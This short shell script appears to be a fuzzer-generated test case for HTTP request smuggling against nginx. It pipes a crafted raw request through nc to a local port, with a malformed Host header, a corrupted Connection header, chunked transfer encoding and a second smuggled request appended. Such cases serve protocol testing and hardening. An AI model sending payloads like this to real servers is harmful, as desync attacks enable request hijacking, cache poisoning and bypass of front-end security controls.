#!/bin/sh
# desync/connection-invalid/smuggled-request via byte.replace+stream.duplicate against nginx
printf 'T /o HTTP/1.1\r\nHost:t}\r\nConnection: Transfer-\tg\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nT /o HTTP/1.1\r\nHost:h\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
